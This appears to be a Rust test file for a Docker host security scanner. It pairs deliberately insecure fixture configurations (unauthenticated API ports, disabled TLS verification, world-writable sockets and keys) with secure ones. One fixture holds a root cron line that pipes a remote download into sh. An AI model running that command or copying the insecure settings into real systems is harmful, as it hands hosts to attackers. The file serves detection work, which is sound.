//! For every check a root where it finds and one where it passes.

use std::collections::BTreeSet;
use std::process::Command;

use super::{Tree, findings, state};
use crate::support::process::Running;

struct Case {
    id: &'static str,
    bad: fn(&Tree),
    good: fn(&Tree),
}

const fn case(id: &'static str, bad: fn(&Tree), good: fn(&Tree)) -> Case {
    Case { id, bad, good }
}

const UNIT: &str = "etc/systemd/system/docker.service";
const JSON: &str = "etc/docker/daemon.json";
const COMPOSE: &str = "srv/compose.yaml";
const GATE: &str = "etc/seawall/seawall.toml";
const CA: &[&str] =
    &["basicConstraints=critical,CA:TRUE,pathlen:0", "keyUsage=critical,keyCertSign"];
const SERVER: &[&str] = &["extendedKeyUsage=serverAuth", "subjectAltName=DNS:box"];
const CLIENT: &[&str] = &["extendedKeyUsage=clientAuth"];
const VERIFIED: &str = "{\"hosts\": [\"tcp://10.0.0.1:2376\"], \"tlsverify\": true, \
                        \"tlscacert\": \"/etc/docker/ca.pem\"}";

fn unit(tree: &Tree, arguments: &str) {
    tree.file(UNIT, &format!("[Service]\nExecStart=/usr/bin/dockerd {arguments}\n"));
}

fn json(tree: &Tree, text: &str) {
    tree.file(JSON, text);
}

fn compose(tree: &Tree, service: &str) {
    tree.file(COMPOSE, &format!("services:\n  app:\n    image: app\n{service}\n"));
}

/// A server's certificate where the engine's settings name it.
fn server(tree: &Tree, key: &str, days: &str, extensions: &[&str]) {
    json(
        tree,
        "{\"hosts\": [\"tcp://10.0.0.1:2376\"], \"tlsverify\": true, \
          \"tlscert\": \"/etc/docker/x.pem\", \"tlskey\": \"/etc/docker/x-key.pem\"}",
    );
    tree.certificate("etc/docker/x", key, days, extensions);
}

fn ca(tree: &Tree, extensions: &[&str]) {
    json(tree, VERIFIED);
    tree.certificate("etc/docker/ca", "P-256", "900", extensions);
    std::fs::remove_file(tree.path("etc/docker/ca-key.pem")).unwrap();
}

fn docker_sock(tree: &Tree) {
    json(tree, "{}");
    tree.socket("run/docker.sock", 0o660, 998);
}

fn context(tree: &Tree, endpoint: &str) {
    let meta = format!("{{\"Name\":\"prod\",\"Endpoints\":{{\"docker\":{{{endpoint}}}}}}}");
    tree.file("home/al/.docker/contexts/meta/0a/meta.json", &meta);
}

fn gate(tree: &Tree, config: &str) {
    let listen = "listen = [\"tcp://10.0.0.1:2376\"]\nhostnames = [\"box\"]\n";
    tree.file(GATE, &format!("{listen}{config}"));
}

/// A gate in a container that publishes its port.
fn gate_container(tree: &Tree) {
    let text = "services:\n  gate:\n    image: seawall\n    ports: [\"2376:2376\"]\n";
    tree.file(COMPOSE, text);
}

/// What iptables-persistent loads.
fn saved(tree: &Tree, rules: &str) {
    tree.file("etc/iptables/rules.v4", rules);
}

fn filter(input: &str) -> String {
    format!("*filter\n:INPUT ACCEPT [0:0]\n{input}COMMIT\n")
}

const DROP: &str = "-A INPUT ! -s 10.0.0.0/24 -p tcp -m tcp --dport 2375 -j DROP\n";
const RAW: &str = "*raw\n:PREROUTING ACCEPT [0:0]\n\
                   -A PREROUTING -p tcp -m tcp --dport PORT -j DROP\nCOMMIT\n";
const USER: &str = "*filter\n:FORWARD ACCEPT [0:0]\n:DOCKER-USER - [0:0]\n\
                    -A FORWARD -j DOCKER-USER\n\
                    -A DOCKER-USER -p tcp -m tcp --dport PORT -j DROP\nCOMMIT\n";

/// An engine on a port, and rules for INPUT.
fn guarded(tree: &Tree, input: &str) {
    unit(tree, "-H tcp://0.0.0.0:2375");
    saved(tree, &filter(input));
}

/// An engine whose guarded port has a connection from there.
fn connected(tree: &Tree, from: &str) {
    saved(tree, &filter(DROP));
    tree.dockerd("-H tcp://0.0.0.0:2375", &["0.0.0.0:2375"]);
    let from: std::net::Ipv4Addr = from.parse().unwrap();
    let from = u32::from_ne_bytes(from.octets());
    let table = tree.path("proc/100/net/tcp");
    let row = format!(" 1: 0100000A:0947 {from:08X}:9C40 01 0:0 0:0 0 0 0 900 1\n");
    std::fs::write(&table, std::fs::read_to_string(&table).unwrap() + &row).unwrap();
}

/// A gate with an allowlist, on a host with two interfaces.
fn two_interfaces(tree: &Tree, rp_filter: &str) {
    gate(tree, "[network]\nallow = [\"10.0.0.0/24\"]\n");
    for (name, mode) in
        [("all", "0"), ("lo", "0"), ("docker0", "0"), ("eth0", "1"), ("eth1", rp_filter)]
    {
        tree.file(&format!("proc/sys/net/ipv4/conf/{name}/rp_filter"), mode);
    }
}

/// An engine, and rules that nftables.service loads.
fn nftables(tree: &Tree, text: &str) {
    json(tree, "{}");
    tree.file("etc/nftables.conf", text);
    tree.link(
        "/lib/systemd/system/nftables.service",
        "etc/systemd/system/sysinit.target.wants/nftables.service",
    );
}

const CASES: &[Case] = &[
    case(
        "NET-001",
        |t| unit(t, "-H tcp://0.0.0.0:2375"),
        |t| unit(t, "-H unix:///run/docker.sock"),
    ),
    case(
        "NET-002",
        |t| json(t, "{\"hosts\": [\"tcp://0.0.0.0:2376\"], \"tls\": true, \"tlsverify\": false}"),
        |t| json(t, VERIFIED),
    ),
    case("NET-003", |t| unit(t, "-H :2375"), |t| unit(t, "-H tcp://[::1]:2376 --tlsverify")),
    case(
        "NET-004",
        |t| {
            t.dockerd("-H tcp://0.0.0.0:2375", &["[::]:2375"]);
        },
        |t| {
            t.dockerd("-H tcp://0.0.0.0:2375", &["0.0.0.0:2375"]);
        },
    ),
    case("NET-005", |t| json(t, VERIFIED), |t| unit(t, "-H tcp://127.0.0.1:2376 --tlsverify")),
    case(
        "NET-006",
        |t| {
            t.file(
                "usr/lib/systemd/system/docker.socket",
                "[Socket]\nListenStream=/run/docker.sock\n",
            );
            t.file("etc/systemd/system/docker.socket.d/tcp.conf", "[Socket]\nListenStream=2375\n");
        },
        |t| {
            t.file("usr/lib/systemd/system/docker.socket", "[Socket]\nListenStream=2375\n");
            t.file(
                "etc/systemd/system/docker.socket.d/unix.conf",
                "[Socket]\nListenStream=\nListenStream=127.0.0.1:2375\n",
            );
        },
    ),
    case(
        "NET-008",
        |t| {
            t.file(
                "etc/systemd/system/api.service",
                "[Service]\nExecStart=/usr/bin/podman system service tcp://0.0.0.0:8888\n",
            );
        },
        |t| {
            t.file(
                "etc/systemd/system/api.service",
                "[Service]\nExecStart=/usr/bin/podman system service --tls-client-ca=/ca.pem \
                 --tls-cert=/c.pem --tls-key=/k.pem tcp://0.0.0.0:8888\n",
            );
        },
    ),
    case(
        "NET-009",
        |t| compose(t, "    ports: [\"2375:2375\"]"),
        |t| compose(t, "    ports: [\"127.0.0.1:2375:2375\"]"),
    ),
    case(
        "NET-010",
        |t| json(t, "{\"metrics-addr\": \"0.0.0.0:9323\"}"),
        |t| json(t, "{\"metrics-addr\": \"127.0.0.1:9323\"}"),
    ),
    case(
        "NET-011",
        |t| {
            t.file(
                "home/al/.docker/desktop/settings-store.json",
                "{\n  \"ExposeDockerAPIOnTCP2375\": true\n}",
            );
        },
        |t| {
            t.file("home/al/.docker/desktop/settings-store.json", "{}");
        },
    ),
    case(
        "CFG-001",
        |t| {
            unit(t, "-H fd://");
            json(t, "{\"hosts\": [\"fd://\"]}");
        },
        |t| {
            unit(t, "-H fd://");
            json(t, "{\"debug\": false}");
        },
    ),
    case(
        "CFG-002",
        |t| {
            unit(t, "-H fd://");
            t.dockerd("-H fd:// --icc=false", &[]);
        },
        |t| {
            unit(t, "-H fd://");
            t.dockerd("-H fd://", &[]);
        },
    ),
    case(
        "CFG-003",
        |t| unit(t, "-H tcp://10.0.0.1:2376 --tlscacert=/ca.pem --tlscert=/c.pem --tlskey=/k.pem"),
        |t| unit(t, "-H tcp://10.0.0.1:2376 --tlsverify --tlscacert=/ca.pem"),
    ),
    case(
        "CFG-004",
        |t| unit(t, "-H tcp://10.0.0.1:2376 --tlsverify --tlscacert="),
        |t| json(t, VERIFIED),
    ),
    case(
        "CFG-005",
        |t| {
            t.dockerd("-H fd://", &[]);
            t.file("proc/100/environ", "PATH=/bin\0DOCKER_TLS_VERIFY=0\0");
        },
        |t| {
            t.dockerd("-H fd://", &[]);
            t.file("proc/100/environ", "PATH=/bin\0DOCKER_TLS_VERIFY=\0");
        },
    ),
    case(
        "CFG-006",
        |t| json(t, VERIFIED),
        |t| unit(t, "-H tcp://10.0.0.1:2376 --tlsverify --authorization-plugin=opa"),
    ),
    case("CFG-007", |t| json(t, "{\"iptables\": false}"), |t| json(t, "{\"iptables\": true}")),
    case("CFG-008", |t| json(t, "{}"), |t| json(t, "{\"icc\": false}")),
    case("CFG-009", |t| json(t, "{}"), |t| json(t, "{\"userns-remap\": \"default\"}")),
    case(
        "CFG-010",
        |t| {
            t.file(
                "home/al/.config/systemd/user/docker.service",
                "[Service]\nExecStart=/usr/bin/dockerd-rootless.sh\n",
            );
            t.file(
                "home/al/.config/systemd/user/docker.service.d/port.conf",
                "[Service]\nEnvironment=\"DOCKERD_ROOTLESS_ROOTLESSKIT_FLAGS=-p 0.0.0.0:2376:2376/tcp\"\n",
            );
        },
        |t| {
            t.file(
                "home/al/.config/systemd/user/docker.service",
                "[Service]\nExecStart=/usr/bin/dockerd-rootless.sh\n\
                 Environment=\"DOCKERD_ROOTLESS_ROOTLESSKIT_FLAGS=-p 0.0.0.0:8080:80/tcp\"\n",
            );
        },
    ),
    case("CFG-011", |t| json(t, "{}"), |t| json(t, "{\"live-restore\": true}")),
    case("CFG-012", |t| json(t, "{}"), |t| json(t, "{\"no-new-privileges\": true}")),
    case("CFG-013", |t| json(t, "{\"insecure-registries\": [\"r:5000\"]}"), |t| json(t, "{}")),
    case("CFG-014", gate_container, |t| {
        gate_container(t);
        json(t, "{\"userland-proxy\": false}");
    }),
    case("CFG-015", |t| unit(t, "-D"), |t| unit(t, "--debug=false")),
    case(
        "SOCK-001",
        |t| {
            t.socket("run/docker.sock", 0o666, 998);
        },
        docker_sock,
    ),
    case(
        "SOCK-002",
        |t| {
            t.socket("run/docker.sock", 0o660, 998).owner("run/docker.sock", 33, 998);
        },
        docker_sock,
    ),
    case(
        "SOCK-003",
        |t| {
            docker_sock(t);
            t.mode("run", 0o777);
        },
        docker_sock,
    ),
    case(
        "SOCK-004",
        |t| {
            docker_sock(t);
            t.file("etc/group", "root:x:0:\ndocker:x:998:al\n");
        },
        docker_sock,
    ),
    case(
        "SOCK-005",
        |t| {
            t.socket("run/containerd/containerd.sock", 0o660, 998);
        },
        |t| {
            t.socket("run/containerd/containerd.sock", 0o660, 0);
        },
    ),
    case(
        "SOCK-006",
        |t| {
            docker_sock(t);
            // user::rw- user:1000:rw- group::rw- mask::rw- other::---, as acl(5) stores it.
            let entry = |tag: u16, permissions: u16, id: u32| {
                [&tag.to_le_bytes()[..], &permissions.to_le_bytes(), &id.to_le_bytes()].concat()
            };
            let none = u32::MAX;
            let list = [
                2_u32.to_le_bytes().to_vec(),
                entry(1, 6, none),
                entry(2, 6, 1000),
                entry(4, 6, none),
                entry(16, 6, none),
                entry(32, 0, none),
            ];
            rustix::fs::setxattr(
                t.path("run/docker.sock"),
                "system.posix_acl_access",
                &list.concat(),
                rustix::fs::XattrFlags::empty(),
            )
            .expect("the file system of the temporary folder has access control lists");
        },
        docker_sock,
    ),
    case("TLS-006", |t| server(t, "rsa:1024", "90", SERVER), |t| server(t, "P-256", "90", SERVER)),
    case("TLS-007", |t| server(t, "P-256", "3", SERVER), |t| server(t, "P-256", "90", SERVER)),
    case(
        "TLS-008",
        |t| server(t, "P-256", "90", &SERVER[..1]),
        |t| server(t, "P-256", "90", SERVER),
    ),
    case(
        "TLS-009",
        |t| server(t, "P-256", "90", &SERVER[1..]),
        |t| server(t, "P-256", "90", SERVER),
    ),
    case(
        "TLS-010",
        |t| {
            t.certificate("home/al/.docker/cert", "P-256", "90", SERVER);
        },
        |t| {
            t.certificate("home/al/.docker/cert", "P-256", "90", CLIENT);
        },
    ),
    case("TLS-011", |t| json(t, VERIFIED), |t| unit(t, "-H tcp://127.0.0.1:2376 --tlsverify")),
    case("TLS-012", |t| ca(t, &["keyUsage=digitalSignature"]), |t| ca(t, CA)),
    case(
        "KEY-001",
        |t| {
            t.certificate("etc/docker/ca", "P-256", "900", CA);
        },
        |t| server(t, "P-256", "90", SERVER),
    ),
    case(
        "KEY-002",
        |t| {
            server(t, "P-256", "90", SERVER);
            t.mode("etc/docker/x-key.pem", 0o644);
        },
        |t| server(t, "P-256", "90", SERVER),
    ),
    case(
        "KEY-003",
        |t| {
            ca(t, CA);
            t.mode("etc/docker/ca.pem", 0o666);
        },
        |t| ca(t, CA),
    ),
    case(
        "KEY-004",
        |t| {
            t.certificate("home/al/.docker/cert", "P-256", "90", CLIENT);
            t.mode("home/al/.docker/cert-key.pem", 0o644);
        },
        |t| {
            t.certificate("home/al/.docker/cert", "P-256", "90", CLIENT);
        },
    ),
    case(
        "KEY-005",
        |t| {
            server(t, "P-256", "90", SERVER);
            let text = std::fs::read_to_string(t.path("etc/docker/x.pem")).unwrap();
            t.file("home/al/.docker/cert.pem", &text);
        },
        |t| {
            server(t, "P-256", "90", SERVER);
            t.certificate("home/al/.docker/cert", "P-256", "90", CLIENT);
        },
    ),
    case(
        "KEY-006",
        |t| {
            server(t, "P-256", "90", SERVER);
            t.mode("etc/docker", 0o777);
        },
        |t| server(t, "P-256", "90", SERVER),
    ),
    case(
        "SSH-001",
        |t| {
            docker_sock(t);
            t.file("etc/group", "docker:x:998:al\n");
            t.file("home/al/.ssh/authorized_keys", "ssh-ed25519 AAAA al@box\n");
        },
        |t| {
            docker_sock(t);
            t.file("etc/group", "docker:x:998:al\n");
            t.file(
                "home/al/.ssh/authorized_keys",
                "command=\"docker system dial-stdio\",restrict ssh-ed25519 AAAA al@box\n",
            );
        },
    ),
    case(
        "SSH-002",
        |t| {
            docker_sock(t);
            t.file(
                "root/.ssh/authorized_keys",
                "command=\"docker system dial-stdio\" ssh-rsa AAAA x\n",
            );
        },
        |t| {
            docker_sock(t);
            t.file("root/.ssh/authorized_keys", "command=\"true\",restrict ssh-rsa AAAA x\n");
        },
    ),
    case(
        "SSH-003",
        |t| {
            json(t, "{}");
            t.file(
                "etc/ssh/sshd_config",
                "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n",
            );
            t.file("etc/ssh/sshd_config.d/10.conf", "PermitRootLogin yes\n");
        },
        |t| {
            json(t, "{}");
            t.file("etc/ssh/sshd_config", "PermitRootLogin no\nPermitRootLogin yes\n");
        },
    ),
    case(
        "SSH-004",
        |t| {
            json(t, "{}");
            t.file("etc/ssh/sshd_config", "TrustedUserCAKeys /etc/ssh/ca.pub\n");
        },
        |t| {
            json(t, "{}");
            t.file("etc/ssh/sshd_config", "TrustedUserCAKeys none\n");
        },
    ),
    case(
        "CTX-001",
        |t| {
            t.file("home/al/.bashrc", "export DOCKER_HOST=tcp://box.example:2375\n");
        },
        |t| {
            t.file("home/al/.bashrc", "export DOCKER_HOST=ssh://al@box.example\n");
        },
    ),
    case(
        "CTX-002",
        |t| context(t, "\"Host\":\"tcp://box.example:2375\""),
        |t| {
            context(t, "\"Host\":\"tcp://box.example:2376\"");
            t.certificate("home/al/.docker/contexts/tls/0a/docker/cert", "P-256", "90", CLIENT);
        },
    ),
    case(
        "CTX-003",
        |t| context(t, "\"Host\":\"tcp://box.example:2376\",\"SkipTLSVerify\":true"),
        |t| context(t, "\"Host\":\"ssh://al@box.example\",\"SkipTLSVerify\":false"),
    ),
    case(
        "CTX-004",
        |t| {
            context(t, "\"Host\":\"ssh://al@box.example\"");
            t.file("home/al/.docker/config.json", "{\"currentContext\": \"prod\"}");
        },
        |t| {
            context(t, "\"Host\":\"unix:///run/docker.sock\"");
            t.file("home/al/.docker/config.json", "{\"currentContext\": \"prod\"}");
        },
    ),
    case(
        "CTX-005",
        |t| {
            t.file(
                "home/al/.config/containers/podman-connections.json",
                "{\"Connection\":{\"Connections\":{\"a\":{\"URI\":\"tcp://box.example:8888\"}}}}",
            );
        },
        |t| {
            t.file(
                "home/al/.config/containers/podman-connections.json",
                "{\"Connection\":{\"Connections\":{\"a\":{\"URI\":\"ssh://al@box.example\"}}}}",
            );
        },
    ),
    case(
        "CTR-001",
        |t| compose(t, "    volumes: [\"/var/run/docker.sock:/s:ro\"]"),
        |t| compose(t, "    volumes: [\"data:/data\"]"),
    ),
    case(
        "CTR-002",
        |t| compose(t, "    privileged: true"),
        |t| compose(t, "    privileged: false"),
    ),
    case(
        "CTR-003",
        |t| {
            t.file(
                COMPOSE,
                "services:\n  a:\n    image: portainer/agent\n    ports: [\"9001:9001\"]\n",
            );
        },
        |t| {
            t.file(
                COMPOSE,
                "services:\n  a:\n    image: portainer/agent\n    ports: [\"127.0.0.1:9001:9001\"]\n",
            );
        },
    ),
    case(
        "CTR-005",
        |t| compose(t, "    ports: [\"80:80\"]"),
        |t| compose(t, "    ports: [\"10.0.0.1:80:80\"]"),
    ),
    case(
        "FW-003",
        |t| guarded(t, &format!("-A INPUT -i eth0 -j ACCEPT\n-A INPUT -j ACCEPT\n{DROP}")),
        |t| guarded(t, &format!("{DROP}-A INPUT -j ACCEPT\n")),
    ),
    case(
        "FW-004",
        |t| {
            compose(t, "    ports: [\"2375:2375\"]");
            saved(t, &filter(DROP));
        },
        |t| {
            compose(t, "    ports: [\"2375:2375\"]");
            saved(t, &RAW.replace("PORT", "2375"));
        },
    ),
    case(
        "FW-005",
        |t| {
            compose(t, "    ports: [\"2376:8443\"]");
            saved(t, &USER.replace("PORT", "2376"));
        },
        |t| {
            compose(t, "    ports: [\"2376:2376\"]");
            saved(t, &USER.replace("PORT", "2376"));
        },
    ),
    case(
        "FW-006",
        |t| nftables(t, "#!/usr/sbin/nft -f\n\nflush ruleset\n\ntable inet filter {\n}\n"),
        |t| nftables(t, "table inet own\ndelete table inet own\ntable inet own {\n}\n"),
    ),
    case(
        "FW-007",
        |t| {
            nftables(t, "table inet own {\n}\n");
            t.file("proc/net/ip_tables_names", "filter\n");
        },
        |t| {
            nftables(t, "table inet own {\n}\n");
            t.file("proc/net/ip_tables_names", "");
        },
    ),
    case(
        "FW-009",
        |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\", \"0.0.0.0/0\"]\n"),
        |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n"),
    ),
    case("FW-010", |t| connected(t, "192.0.2.7"), |t| connected(t, "10.0.0.5")),
    case("FW-011", |t| two_interfaces(t, "0"), |t| two_interfaces(t, "1")),
    case(
        "FW-012",
        |t| {
            gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n");
            saved(t, "*filter\n:INPUT DROP [0:0]\nCOMMIT\n");
        },
        |t| {
            gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n");
            saved(
                t,
                "*filter\n:INPUT DROP [0:0]\n\
                 -A INPUT -s 10.0.0.0/24 -p tcp --dport 2376 -j ACCEPT\nCOMMIT\n",
            );
        },
    ),
    case(
        "HOST-002",
        |t| {
            json(t, "{}");
            t.file("etc/audit/rules.d/x.rules", "-w /etc/docker -k docker\n");
        },
        |t| {
            json(t, "{}");
            t.file(
                "etc/audit/rules.d/x.rules",
                "-w /usr/bin/dockerd\n-w /etc/docker\n-w /run/docker.sock\n",
            );
        },
    ),
    case(
        "HOST-003",
        |t| {
            json(t, "{}");
            t.mode(JSON, 0o666);
        },
        |t| json(t, "{}"),
    ),
    case(
        "HOST-004",
        |t| json(t, "{\"tls\": true, \"tls\": false}"),
        |t| json(t, "{\"tls\": true}"),
    ),
    case(
        "IOC-001",
        |t| {
            json(t, "{}");
            t.file("etc/cron.d/x", "* * * * * root wget -qO- http://198.51.100.7/x | sh\n");
        },
        |t| {
            json(t, "{}");
            t.file("etc/cron.d/x", "# wget x | sh\n0 4 * * * root apt-get update\n");
        },
    ),
    case("GATE-001", |t| gate(t, "lisen = []\n"), |t| gate(t, "")),
    case("GATE-002", |t| gate(t, ""), |t| gate(t, "[network]\nallow = [\"10.0.0.0/24\"]\n")),
    case(
        "GATE-003",
        |t| {
            gate(t, "");
            t.file("var/lib/seawall/seawall.db", "").mode("var/lib/seawall", 0o755);
        },
        |t| {
            gate(t, "");
            t.file("var/lib/seawall/seawall.db", "").mode("var/lib/seawall", 0o700);
        },
    ),
    case(
        "GATE-004",
        |t| gate(t, "[audit]\non_failure = \"continue\"\n"),
        |t| gate(t, "[audit]\non_failure = \"deny\"\n"),
    ),
    case(
        "GATE-005",
        |t| {
            gate(t, "");
            t.file("var/lib/seawall/seawall.db", "").mode("var/lib/seawall", 0o700);
        },
        |t| {
            gate(t, "");
            t.file("var/lib/seawall/lock", "").mode("var/lib/seawall", 0o700);
        },
    ),
    case(
        "GATE-006",
        |t| {
            gate(t, "");
            unit(t, "-H tcp://0.0.0.0:2375");
        },
        |t| {
            gate(t, "");
            unit(t, "-H fd://");
        },
    ),
];

/// Checks that no files can show: `live` has them, and `firewall::status`.
const LIVE: &[&str] = &["CFG-016", "CTR-004", "FW-008", "NET-007"];

#[test]
fn every_check_finds_what_is_bad_and_passes_what_is_good() {
    let mut wrong = Vec::new();
    for Case { id, bad, good } in CASES {
        let tree = Tree::host();
        bad(&tree);
        let report = tree.report();
        let found = findings(&report, id);
        match found.as_slice() {
            [] => wrong.push(format!("{id} does not find: {report:#}")),
            _ if found.iter().any(|it| it["remedy"].as_str().unwrap().contains('{')) => {
                wrong.push(format!("{id} leaves a gap in its remedy: {found:#?}"));
            }
            _ => {}
        }
        let tree = Tree::host();
        good(&tree);
        let report = tree.report();
        // A file that reads well is not worth a word: it has no other way to pass.
        let passes = state(&report, id) == "pass" || *id == "HOST-004";
        if !findings(&report, id).is_empty() || !passes {
            wrong.push(format!("{id} is {} where all is good: {report:#}", state(&report, id)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_check_has_a_root_to_be_tried_on() {
    let mut list = Command::new(env!("CARGO_BIN_EXE_seawall"));
    list.args(["scan", "--list", "--format", "json"]);
    let list = Running::start(list).wait().ok();
    let list: Vec<serde_json::Value> = serde_json::from_str(&list).unwrap();
    let of_hosts = list.iter().filter(|check| check["looks_at"] == "hosts and folders");
    let all: BTreeSet<_> = of_hosts.map(|check| check["id"].as_str().unwrap()).collect();
    let tried: BTreeSet<_> = CASES.iter().map(|case| case.id).chain(LIVE.iter().copied()).collect();
    assert_eq!(tried, all);
}

#[test]
fn every_way_to_write_an_open_port_is_found() {
    // {command line, daemon.json} by {address}, plain, unverified and verified.
    let addresses = [
        ("0.0.0.0", "network"),
        ("[::]", "network"),
        ("10.0.0.1", "network"),
        ("127.0.0.1", "loopback"),
        ("[::1]", "loopback"),
    ];
    let flags = ["-H {}", "-H={}", "-H{}", "--host {}", "--host={}", "--host=\"{}\" -D"];
    let files = ["{\"hosts\":[\"{}\"]", "{\n  \"hosts\": [\n    \"fd://\",\n    \"{}\"\n  ]"];
    let tls = [
        ("", "", ["NET-001", "NET-003"]),
        ("--tlsverify=false", ",\"tlsverify\":false}", ["NET-002", "NET-003"]),
        ("--tlsverify", ",\"tlsverify\":true}", ["NET-005", ""]),
        ("--tls", ",\"tlsverify\":true}", ["NET-005", ""]),
    ];
    for (address, reach) in addresses {
        let endpoint = format!("tcp://{address}:2375");
        for (flag, key, expected) in tls {
            let expected = expected[usize::from(reach == "loopback")];
            let mut trees = Vec::new();
            for host in flags {
                let tree = Tree::host();
                unit(&tree, &format!("{} {flag}", host.replace("{}", &endpoint)));
                trees.push((host, tree));
            }
            for hosts in files {
                let tree = Tree::host();
                let end = if key.is_empty() { "}" } else { key };
                json(&tree, &format!("{}{end}", hosts.replace("{}", &endpoint)));
                trees.push((hosts, tree));
            }
            for (how, tree) in trees {
                let report = tree.report();
                for id in ["NET-001", "NET-002", "NET-003", "NET-005"] {
                    let found = findings(&report, id);
                    assert_eq!(
                        !found.is_empty(),
                        id == expected,
                        "{id}: {how} {endpoint} {flag}: {report:#}"
                    );
                    assert!(found.iter().all(|it| it["subject"] == endpoint), "{found:#?}");
                }
            }
        }
    }
}

#[test]
fn files_of_a_repository_are_found_wherever_they_are() {
    let tree = Tree::repository();
    tree.file("roles/docker/files/daemon.json", "{\n\"hosts\":\n[\"tcp://0.0.0.0:2375\"]}");
    tree.file("files/docker.socket", "[Socket]\nListenStream=0.0.0.0:2375\n");
    tree.file("files/dockerd.service", "[Service]\nExecStart=/bin/dockerd -H tcp://[::]:2375\n");
    tree.file("apps/web/docker-compose.yml", "services:\n  a:\n    privileged: true\n");
    tree.file("broken/compose.yaml", "services: [\n");
    tree.file(".github/workflows/ci.yml", "env:\n  DOCKER_HOST: tcp://box.example:2375\n");
    tree.certificate("backup/ca", "P-256", "900", CA);
    let report = tree.report();
    let places = |id: &str| -> Vec<String> {
        let found = findings(&report, id);
        let place = |it: &&serde_json::Value| {
            let first = &it["evidence"][0];
            format!("{}:{}", first["place"].as_str().unwrap(), first["line"])
        };
        found.iter().map(place).collect()
    };
    assert_eq!(
        places("NET-001"),
        ["/roles/docker/files/daemon.json:2", "/files/dockerd.service:2"]
    );
    assert_eq!(places("NET-006"), ["/files/docker.socket:2"]);
    assert_eq!(places("CTR-002"), ["/apps/web/docker-compose.yml:3"]);
    assert_eq!(places("CTX-001"), ["/.github/workflows/ci.yml:2"]);
    assert_eq!(places("KEY-001"), ["/backup/ca-key.pem:null"]);
    assert_eq!(places("HOST-004"), ["/broken/compose.yaml:null"]);
}

#[test]
fn what_may_not_be_read_is_not_known() {
    let tree = Tree::host();
    std::fs::create_dir_all(tree.path("etc/docker/daemon.json/x")).unwrap();
    unit(&tree, "-H fd://");
    let report = tree.report();
    assert_eq!(state(&report, "NET-001"), "unknown", "{report:#}");
    let unknown = report["unknown"].as_array().unwrap();
    assert!(unknown.iter().any(|it| it["subject"] == "/etc/docker/daemon.json"), "{report:#}");
    // Groups that only the network knows.
    let tree = Tree::host();
    docker_sock(&tree);
    tree.file("etc/nsswitch.conf", "group: files sss\n");
    assert_eq!(state(&tree.report(), "SOCK-004"), "unknown");
}

#[test]
fn what_was_deduced_from_a_link_out_of_the_root_is_not_there() {
    let tree = Tree::host();
    tree.link("/etc/passwd", "etc/docker/daemon.json");
    tree.link("../../../../../../../../../../root", "home/al");
    json_is_the_roots_own(&tree);
}

/// The link leads to the root's own file: JSON it is not, and so it is said to be broken.
fn json_is_the_roots_own(tree: &Tree) {
    let report = tree.report();
    assert_eq!(findings(&report, "HOST-004").len(), 1, "{report:#}");
    assert!(!report.to_string().contains("/home/al/.docker"), "{report:#}");
}
